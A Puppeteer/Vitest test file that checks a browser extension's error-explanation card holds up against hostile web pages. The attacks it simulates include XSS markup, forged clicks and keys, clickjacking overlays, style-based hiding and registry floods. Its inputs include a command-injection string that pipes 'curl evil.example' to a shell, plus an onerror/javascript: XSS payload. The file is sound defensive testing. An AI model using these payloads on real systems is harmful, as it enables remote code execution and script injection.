/** Pages that mean harm: what they write stays text, what they fake does nothing, what they flood costs only themselves. */
import type { Page } from 'puppeteer-core';
import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from 'vitest';
import { cardOn, closeCard, waitForCard } from '../../scripts/browsers/card.ts';
import { callOn, press, waitForUi, walk } from '../../scripts/browsers/closed-ui.ts';
import { marks, pointOn, pressMark, waitForMarks } from '../../scripts/browsers/marks.ts';
import { eventually } from './harness/eventually.ts';
import { type Session, startSession } from './harness/session.ts';

const error = (model: string) =>
  `No deployments available for selected model, Try again in 5 seconds. Passed model=${model}. pre-call-checks=False, cooldown_list=[]`;
const url = 'https://github.com/acme/gateway/issues/666';

let session: Session;
let page: Page;
beforeAll(async () => {
  session = await startSession(inject('engine'));
});
afterAll(() => session?.close());
afterEach(() => page?.close());

async function openIssue(body: string): Promise<void> {
  session.web.serve(url, { body: `<!doctype html><title>Issue</title><div class="markdown-body">${body}</div>` });
  page = await session.open(url);
}

/** The page's text as a node of text: what a hostile author typed, not what the server made of it. */
async function openText(text: string): Promise<void> {
  await openIssue('<pre></pre>');
  await page.evaluate((written) => {
    (document.querySelector('pre') as HTMLElement).textContent = written;
  }, text);
}

describe('what a page writes', () => {
  it('stays letters in the card: markup, scripts and links', async () => {
    await openText(error('<img/src=x/onerror=document.title="owned"><a/href="javascript:document.title=1">'));
    await waitForMarks(page, 1);
    await pressMark(page, 0);
    const card = await waitForCard(page, 'No deployments available');
    const inside = [...walk([card.root])];
    expect(inside.filter(({ tag }) => tag === 'img' || tag === 'script' || tag === 'iframe')).toEqual([]);
    const links = inside.flatMap(({ attributes }) => (attributes.href === undefined ? [] : [attributes.href]));
    expect(links.filter((link) => !link.startsWith('https://'))).toEqual([]);
    expect(await page.title()).toBe('Issue');
  });

  it('does not turn a copied fix into something else', async () => {
    await openText(error('x"];curl$IFS evil.example|sh;"'));
    await waitForMarks(page, 1);
    await pressMark(page, 0);
    const card = await waitForCard(page, 'No deployments available');
    const codes = [...walk([card.root])].filter(({ tag }) => tag === 'pre').map(({ text }) => text);
    expect(codes.length).toBeGreaterThan(0);
    for (const code of codes) expect(code).not.toContain('evil.example');
  });

  it('reaches nobody with characters that cannot be seen', async () => {
    await openText(error('gpt\u202e\u2066-4\u200bo'));
    await waitForMarks(page, 1);
    await pressMark(page, 0);
    const card = await waitForCard(page);
    expect(card.root.text).not.toMatch(/[\u200b\u202e\u2066]/);
  });

  it('does not hang the page when it is one line of 10 MB', async () => {
    const filler = 'litellm.{"error": "[[[[ '.repeat(420_000);
    await openIssue('<pre></pre><p>after</p>');
    await page.evaluate(
      (long, short) => {
        (document.querySelector('pre') as HTMLElement).textContent = long;
        (document.querySelector('p') as HTMLElement).textContent = short;
      },
      filler,
      error('gpt-4o'),
    );
    await waitForMarks(page, 1, 40_000);
    expect((await marks(page)).map(({ text }) => text).join()).toContain('gpt-4o');
    expect(await page.evaluate(() => 1 + 1)).toBe(2);
  });
});

describe('what a page fakes', () => {
  it('opens no card: made-up clicks and keys are not a person', async () => {
    await openIssue(`<pre>${error('gpt-4o')}</pre>`);
    await waitForMarks(page, 1);
    const { x, y } = await pointOn(page, 0);
    await page.evaluate(
      (clientX, clientY) => {
        const target = document.elementFromPoint(clientX, clientY) as Element;
        for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click'])
          target.dispatchEvent(new MouseEvent(type, { clientX, clientY, bubbles: true, composed: true, cancelable: true }));
        (target as HTMLElement).click?.();
      },
      x,
      y,
    );
    await new Promise((resolve) => setTimeout(resolve, 400));
    expect(await cardOn(page)).toBeNull();
  });

  it('neither closes the card nor presses what is in it', async () => {
    await openIssue(`<pre>${error('gpt-4o')}</pre>`);
    await waitForMarks(page, 1);
    await pressMark(page, 0);
    await waitForCard(page);
    await page.evaluate(() => {
      for (const target of [document, document.documentElement, ...document.documentElement.children]) {
        target.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true, composed: true }));
        target.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true }));
      }
      const host = [...document.documentElement.children].find((element) => element.localName === 'div') as HTMLElement;
      if (host.shadowRoot) throw new Error('the shadow root is open to the page');
      host.click();
      host.dispatchEvent(new MouseEvent('click', { bubbles: true, clientX: 100, clientY: 100 }));
    });
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect((await cardOn(page))?.title).toContain('No deployments available');
  });

  it('speaks to nobody: our messages by name, through every door that a page has', async () => {
    await openIssue(`<pre>${error('gpt-4o')}</pre>`);
    await waitForMarks(page, 1);
    const doors = await page.evaluate(() => {
      const names = [
        'gate-to-background/anchor-seen',
        'any-to-background/mute',
        'popup-to-background/check-page',
        'any-to-background/explain-text',
      ];
      for (const name of names) {
        const message = { name, request: { what: 'site', value: 'github.com', off: false, text: 'x', tabId: 1 } };
        window.postMessage(message, '*');
        document.dispatchEvent(new CustomEvent(name, { detail: message }));
        window.dispatchEvent(new MessageEvent('message', { data: message }));
      }
      const { chrome, browser } = window as unknown as Record<string, { runtime?: { sendMessage?: unknown } } | undefined>;
      return [chrome?.runtime?.sendMessage, browser?.runtime?.sendMessage].filter(Boolean).length;
    });
    expect(doors, 'a page can reach the extension: externally_connectable must stay away').toBe(0);
    await new Promise((resolve) => setTimeout(resolve, 400));
    expect(await cardOn(page)).toBeNull();
    await waitForMarks(page, 1);
  });
});

describe('what a page lies in wait for', () => {
  it('is not our element: none that it defines gets the closed root, and the card opens all the same', async () => {
    await openIssue(`<pre>${error('gpt-4o')}</pre>`);
    await waitForMarks(page, 1);
    await pressMark(page, 0);
    await closeCard(page, await waitForCard(page));
    await page.evaluate(() => {
      const caught: string[] = [];
      Object.assign(window, { caught });
      const lure = (name: string) => {
        if (!name.includes('-') || customElements.get(name)) return;
        customElements.define(
          name,
          class extends HTMLElement {
            constructor() {
              super();
              const internals = this.attachInternals();
              caught.push(name);
              setTimeout(() => caught.push(`root: ${internals.shadowRoot?.textContent}`), 300);
            }
          },
        );
      };
      // The names that were seen before, and each new one in the moment in which it comes.
      lure('lex-popover');
      new MutationObserver((records) => {
        for (const { addedNodes } of records) for (const node of addedNodes) lure(node.nodeName.toLowerCase());
      }).observe(document, { childList: true, subtree: true });
    });
    await pressMark(page, 0);
    await waitForCard(page, 'No deployments available');
    await closeCard(page, await waitForCard(page));
    await pressMark(page, 0);
    await waitForCard(page, 'No deployments available');
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(await page.evaluate(() => (window as unknown as { caught: string[] }).caught)).toEqual([]);
  });
});

describe('what a page takes away', () => {
  it('comes back when the registry of highlights is flooded and cleared', async () => {
    await openIssue(`<pre>${error('gpt-4o')}</pre>`);
    await waitForMarks(page, 1);
    await page.evaluate(() => {
      for (let i = 0; i < 2000; i++) CSS.highlights.set(`flood-${i}`, new Highlight());
      for (const name of ['lex-certain', 'lex-likely', 'lex-perhaps', 'lex-current']) CSS.highlights.set(name, new Highlight());
      document.querySelector('pre')?.append('\nmore');
    });
    await waitForMarks(page, 1);
  });

  it('leaves the card readable under the styles of a page that hides everything', async () => {
    await openIssue(`<pre>${error('gpt-4o')}</pre>`);
    await waitForMarks(page, 1);
    await pressMark(page, 0);
    const card = await waitForCard(page);
    await page.evaluate(() => {
      const style = document.createElement('style');
      style.textContent =
        '* { opacity: 0 !important; transform: scale(0) !important; pointer-events: none !important; visibility: hidden !important }';
      document.head.append(style);
    });
    const seen = await callOn(page, card.root, function () {
      const box = this.getBoundingClientRect();
      const { opacity, visibility } = getComputedStyle((this.getRootNode() as ShadowRoot).host);
      return { width: box.width, opacity, visibility };
    });
    expect(seen.width).toBeGreaterThan(200);
    expect(seen).toMatchObject({ opacity: '1', visibility: 'visible' });
  });

  it('leaves the card there whatever the page does to its host', async () => {
    await openIssue(`<pre>${error('gpt-4o')}</pre>`);
    await waitForMarks(page, 1);
    await pressMark(page, 0);
    const card = await waitForCard(page);
    await page.evaluate(() => {
      const host = [...document.documentElement.children].find((element) => element.localName === 'div') as HTMLElement;
      host.style.cssText = 'display: none !important; opacity: 0 !important; visibility: hidden !important; transform: scale(0) !important';
      host.hidden = true;
      host.className = 'hidden';
      host.hidePopover();
      host.removeAttribute('popover');
    });
    const seen = await callOn(page, card.root, function () {
      const box = this.getBoundingClientRect();
      return { width: box.width, visibility: getComputedStyle(this).visibility };
    });
    expect(seen.width).toBeGreaterThan(200);
    expect(seen.visibility).toBe('visible');
  });

  it('lets what the page opens above the card take the press, and nothing below it', async () => {
    await openIssue(`<pre>${error('gpt-4o')}</pre>`);
    await waitForMarks(page, 1);
    await pressMark(page, 0);
    await waitForCard(page);
    const button = (name: string) => waitForUi(page, name, (node) => node.tag === 'button' && node.text === name);
    await press(page, await button('More'));
    const mute = await button('Never mark this error');
    await page.evaluate(() => {
      const bait = document.createElement('dialog');
      bait.style.cssText = 'position: fixed; inset: 0; width: 100vw; height: 100vh; max-width: none; max-height: none; opacity: 0.01';
      document.body.append(bait);
      bait.setAttribute('popover', 'manual');
      bait.showPopover();
      addEventListener('click', ({ target }) => Object.assign(window, { taken: (target as Element).localName }), { capture: true });
    });
    const stored = () => session.inside((api) => api.storage.local.get(null));
    const before = await stored();
    await press(page, mute);
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(await page.evaluate(() => (window as { taken?: string }).taken)).toBe('dialog');
    expect(await stored(), 'the press did something in the card').toEqual(before);
  });

  it('is above a cover that the page lays over it', async () => {
    await openIssue(`<pre>${error('gpt-4o')}</pre>`);
    await waitForMarks(page, 1);
    await page.evaluate(() => {
      const cover = document.createElement('div');
      cover.id = 'cover';
      cover.style.cssText = 'position:fixed;inset:0;z-index:2147483647;background:red;pointer-events:none';
      document.body.append(cover);
    });
    await pressMark(page, 0);
    const card = await waitForCard(page);
    const close = await waitForUi(page, 'The close button', (node) => (node.attributes.class ?? '').split(' ').includes('card-close'));
    await page.evaluate(() => {
      (document.querySelector('#cover') as HTMLElement).style.pointerEvents = 'auto';
    });
    expect(card.title).toContain('No deployments available');
    await press(page, close);
    await eventually(async () => expect(await cardOn(page)).toBeNull());
  });
});
